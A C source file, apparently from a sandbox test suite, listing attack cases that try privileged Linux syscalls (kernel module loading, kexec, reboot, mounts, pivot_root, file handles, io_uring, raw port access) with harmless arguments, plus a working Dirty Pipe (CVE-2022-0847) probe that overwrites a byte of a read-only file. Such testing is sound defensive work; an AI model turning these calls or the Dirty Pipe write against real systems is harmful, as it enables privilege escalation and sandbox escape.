// Area A of the attack cases: calls that reach into the kernel, its mounts and its settings. Each is
// made so that it harms nobody where it is not refused: in namespaces of its own, or with an argument
// that the kernel itself finds wrong, once it looks.
#include "attacker.h"

#include <fcntl.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/mount.h>
#include <sys/swap.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/utsname.h>
#include <unistd.h>
#include <linux/bpf.h>
#include <linux/perf_event.h>

/// Arguments that are all zero, and room for answers.
static char zeros[4096], room[4096];

#define CALL(identifier, ...) \
    static const char *identifier(void) { return outcome(syscall(__VA_ARGS__)); }

/// The outcome of a call that came with a Linux version; an older kernel says ENOSYS by itself.
static const char *since(int major, int minor, long result) {
    struct utsname kernel;
    int has_major = 0, has_minor = 0;
    const char *answer = outcome(result);
    if (result >= 0 || errno != ENOSYS || uname(&kernel) < 0) return answer;
    sscanf(kernel.release, "%d.%d", &has_major, &has_minor);
    int older = has_major < major || (has_major == major && has_minor < minor);
    return older ? "not in this kernel" : answer;
}

// A11, and the kernel's own affairs.

static const char *bpf_map(void) {
    union bpf_attr map = {.map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 4, .max_entries = 1};
    return outcome(syscall(SYS_bpf, (long)BPF_MAP_CREATE, &map, sizeof map));
}

static const char *perf_event(void) {
    struct perf_event_attr event = {
        .type = PERF_TYPE_SOFTWARE, .size = sizeof event, .config = PERF_COUNT_SW_TASK_CLOCK};
    return outcome(syscall(SYS_perf_event_open, &event, 0L, -1L, -1L, 0L));
}

CALL(user_faults, SYS_userfaultfd, 1L /* UFFD_USER_MODE_ONLY */)
static const char *secret_memory(void) { return since(6, 5, syscall(447L, 0L)); }
CALL(watch_filesystem, SYS_fanotify_init, 0x200L /* FAN_REPORT_FID */, 0L)
CALL(mark_filesystem, SYS_fanotify_mark, -1L, 0L, 0L, -1L, NULL)
CALL(kernel_log, SYS_syslog, 3L /* READ_ALL */, room, sizeof room)
CALL(load_kexec, SYS_kexec_load, 0L, 1L, zeros, 0xFFFFL)
#ifdef SYS_kexec_file_load
CALL(load_kexec_file, SYS_kexec_file_load, -1L, -1L, 0L, NULL, 0xFFFFL)
#endif
CALL(load_module, SYS_init_module, zeros, 1L, "")
CALL(load_module_file, SYS_finit_module, -1L, "", 0L)
CALL(unload_module, SYS_delete_module, "corral_none", (long)O_NONBLOCK)
CALL(reboot_machine, SYS_reboot, 0L, 0L, 0L, 0L)
CALL(swap_on, SYS_swapon, "/corral/none", 0L)
CALL(swap_off, SYS_swapoff, "/corral/none")
CALL(accounting, SYS_acct, "/corral/none")
CALL(quota, SYS_quotactl, 0x80000500L /* Q_GETINFO */, "/corral/none", 0L, room)
CALL(quota_by_descriptor, 443L, -1L, 0x80000500L, 0L, room)

// No clock may be set to another value, not even in a control: the time is one that cannot be.
static const char *set_clock(void) {
    int64_t time[2] = {0, 2000000000};
    return outcome(syscall(SYS_clock_settime, 0L, time));
}
CALL(set_time_of_day, SYS_settimeofday, NULL, NULL)
CALL(adjust_clock, SYS_adjtimex, memset(room, 0, sizeof room))
CALL(adjust_one_clock, SYS_clock_adjtime, 0L, memset(room, 0, sizeof room))
CALL(set_host_name, SYS_sethostname, "attacked", 8L)
CALL(set_domain_name, SYS_setdomainname, "attacked", 8L)

/// In a session without a terminal, so that nobody's is hung up.
static const char *hang_up(void) {
    if (setsid() < 0) return words("no session: %s", outcome(-1));
    return outcome(syscall(SYS_vhangup));
}

#ifdef __x86_64__
CALL(ports_all, SYS_iopl, 3L)
CALL(ports_some, SYS_ioperm, 0x80L, 1L, 1L)
CALL(descriptor_table, SYS_modify_ldt, 0L, room, sizeof room)
#endif

// A07 and its older kind.

CALL(ring_setup, SYS_io_uring_setup, 1L, memset(room, 0, sizeof room))
CALL(ring_enter, SYS_io_uring_enter, -1L, 0L, 0L, 0L, NULL, 0L)
CALL(ring_register, SYS_io_uring_register, -1L, 0L, NULL, 0L)
static const char *aio_setup(void) {
    unsigned long context = 0;
    return outcome(syscall(SYS_io_setup, 1L, &context));
}

// A12: mounts, by the old calls and the new.

static const char *mount_tmpfs(void) {
    const char *answer = outcome(mount("none", "/tmp", "tmpfs", 0, NULL));
    umount2("/tmp", MNT_DETACH);
    return answer;
}

/// Of a mount of its own, where there can be one.
static const char *unmount(void) {
    int mounted = mount("none", "/tmp", "tmpfs", 0, NULL) == 0;
    return outcome(umount2(mounted ? "/tmp" : "/proc", MNT_DETACH));
}

/// Without the flags that a sandbox's mounts have.
static const char *remount(void) { return outcome(mount(NULL, "/tmp", NULL, MS_REMOUNT | MS_BIND, NULL)); }

CALL(pivot, SYS_pivot_root, "/", "/")
CALL(change_root, SYS_chroot, "/tmp")
CALL(clone_tree, SYS_open_tree, (long)AT_FDCWD, "/", 1L /* OPEN_TREE_CLONE */)
static const char *clone_tree_attr(void) {
    return since(6, 15, syscall(467L, (long)AT_FDCWD, "/", 1L, zeros, 32L));
}
CALL(attach_mount, SYS_move_mount, -1L, "", (long)AT_FDCWD, "/tmp", 4L)
CALL(open_filesystem, SYS_fsopen, "tmpfs", 0L)
CALL(configure_filesystem, SYS_fsconfig, -1L, 6L, NULL, NULL, 0L)
CALL(make_mount, SYS_fsmount, -1L, 0L, 0L)
CALL(pick_filesystem, SYS_fspick, (long)AT_FDCWD, "/tmp", 0L)
CALL(mount_attributes, 442L, (long)AT_FDCWD, "/tmp", 0L, zeros, 32L)

static const char *list_mounts(void) {
    uint64_t request[3] = {24, UINT64_MAX /* LSMT_ROOT */, 0};
    return since(6, 8, syscall(458L, request, room, 8L, 0L));
}

static const char *look_at_mount(void) {
    return since(6, 8, syscall(457L, NULL, room, sizeof room, 0L));
}

// Files by handle, past every path.

struct handle {
    unsigned int size;
    int type;
    unsigned char bytes[128];
};

static const char *name_to_handle(void) {
    struct handle handle = {.size = sizeof handle.bytes};
    int mount;
    return outcome(syscall(SYS_name_to_handle_at, (long)AT_FDCWD, "/tmp", &handle, &mount, 0L));
}

static const char *open_by_handle(void) {
    struct handle handle = {.size = sizeof handle.bytes};
    int mount;
    int directory = open("/tmp", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    // The inode 2 of most filesystems, where no handle is to be had.
    if (syscall(SYS_name_to_handle_at, (long)AT_FDCWD, "/tmp", &handle, &mount, 0L) < 0)
        handle = (struct handle){.size = 8, .type = 1, .bytes = {2}};
    return outcome(syscall(SYS_open_by_handle_at, (long)directory, &handle, (long)O_RDONLY));
}

// Memory policy, which kernels without NUMA do not have; their /proc shows it.

static const char *numa(long result) {
    const char *answer = outcome(result);
    return access("/proc/self/numa_maps", F_OK) == 0 ? answer : "not in this kernel";
}

static const char *numa_mbind(void) { return numa(syscall(SYS_mbind, NULL, 0L, 0L, NULL, 0L, 0L)); }
static const char *numa_set_policy(void) { return numa(syscall(SYS_set_mempolicy, 0L, NULL, 0L)); }
static const char *numa_get_policy(void) {
    return numa(syscall(SYS_get_mempolicy, NULL, NULL, 0L, NULL, 0L));
}
static const char *numa_home_node(void) { return numa(syscall(450L, 0L, 0L, 0L, 0L)); }
static const char *numa_move_pages(void) {
    return numa(syscall(SYS_move_pages, 0L, 0L, NULL, NULL, NULL, 0L));
}
static const char *numa_migrate_pages(void) {
    unsigned long nodes = 1;
    return numa(syscall(SYS_migrate_pages, 0L, 8L, &nodes, &nodes));
}

// Access control of the sandbox's own making.

CALL(landlock_create, 444L, NULL, 0L, 1L /* VERSION */)
CALL(landlock_rule, 445L, -1L, 1L, zeros, 0L)
CALL(landlock_restrict, 446L, -1L, 0L)

static const char *lsm_list(void) {
    uint32_t size = sizeof room;
    return since(6, 8, syscall(461L, room, &size, 0L));
}
static const char *lsm_get(void) { return since(6, 8, syscall(459L, 0L, NULL, NULL, 0L)); }
static const char *lsm_set(void) { return since(6, 8, syscall(460L, 0L, NULL, 0L, 0L)); }

// The 23rd of the past breaks: pages put into pipes.

static const char *give_pages(void) {
    int ends[2];
    struct iovec page = {zeros, 1};
    if (pipe(ends) < 0) return outcome(-1);
    return outcome(vmsplice(ends[1], &page, 1, 0));
}

/// CVE-2022-0847: a byte written into a pipe after a page of a file that may only be read. Looks whether
/// the file has it.
static const char *dirty_pipe(void) {
    // Of the ELF header, where nothing is.
    const off_t place = 15;
    int ends[2];
    char before = 0, after = 0;
    int file = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    if (file < 0 || pread(file, &before, 1, place) != 1 || pipe(ends) < 0) return outcome(-1);
    // Every buffer of the pipe is written and read once, which is what marked them as mergeable.
    long size = fcntl(ends[1], F_GETPIPE_SZ);
    for (long done = 0; done < size; done += (long)sizeof zeros)
        if (write(ends[1], zeros, sizeof zeros) < 0) return outcome(-1);
    for (long done = 0; done < size; done += (long)sizeof room)
        if (read(ends[0], room, sizeof room) < 0) return outcome(-1);
    loff_t from = place - 1;
    if (splice(file, &from, ends[1], NULL, 1, 0) < 0) return outcome(-1);
    if (write(ends[1], "!", 1) < 0 || pread(file, &after, 1, place) != 1) return outcome(-1);
    return before == after ? "unchanged" : "succeeded";
}

const struct attempt call_attempts[] = {
    {"bpf", bpf_map},
    {"perf-event-open", perf_event},
    {"userfaultfd", user_faults},
    {"memfd-secret", secret_memory},
    {"fanotify-init", watch_filesystem},
    {"fanotify-mark", mark_filesystem},
    {"syslog", kernel_log},
    {"kexec-load", load_kexec},
#ifdef SYS_kexec_file_load
    {"kexec-file-load", load_kexec_file},
#endif
    {"init-module", load_module},
    {"finit-module", load_module_file},
    {"delete-module", unload_module},
    {"reboot", reboot_machine},
    {"swapon", swap_on},
    {"swapoff", swap_off},
    {"acct", accounting},
    {"quotactl", quota},
    {"quotactl-fd", quota_by_descriptor},
    {"clock-settime", set_clock},
    {"settimeofday", set_time_of_day},
    {"adjtimex", adjust_clock},
    {"clock-adjtime", adjust_one_clock},
    {"sethostname", set_host_name},
    {"setdomainname", set_domain_name},
    {"vhangup", hang_up},
#ifdef __x86_64__
    {"iopl", ports_all},
    {"ioperm", ports_some},
    {"modify-ldt", descriptor_table},
#endif
    {"io-uring-setup", ring_setup},
    {"io-uring-enter", ring_enter},
    {"io-uring-register", ring_register},
    {"io-setup", aio_setup},
    {"mount", mount_tmpfs},
    {"umount2", unmount},
    {"remount", remount},
    {"pivot-root", pivot},
    {"chroot", change_root},
    {"open-tree", clone_tree},
    {"open-tree-attr", clone_tree_attr},
    {"move-mount", attach_mount},
    {"fsopen", open_filesystem},
    {"fsconfig", configure_filesystem},
    {"fsmount", make_mount},
    {"fspick", pick_filesystem},
    {"mount-setattr", mount_attributes},
    {"listmount", list_mounts},
    {"statmount", look_at_mount},
    {"name-to-handle-at", name_to_handle},
    {"open-by-handle-at", open_by_handle},
    {"mbind", numa_mbind},
    {"set-mempolicy", numa_set_policy},
    {"get-mempolicy", numa_get_policy},
    {"set-mempolicy-home-node", numa_home_node},
    {"move-pages", numa_move_pages},
    {"migrate-pages", numa_migrate_pages},
    {"landlock-create-ruleset", landlock_create},
    {"landlock-add-rule", landlock_rule},
    {"landlock-restrict-self", landlock_restrict},
    {"lsm-list-modules", lsm_list},
    {"lsm-get-self-attr", lsm_get},
    {"lsm-set-self-attr", lsm_set},
    {"vmsplice", give_pages},
    {"dirty-pipe", dirty_pipe},
    {NULL, NULL},
};
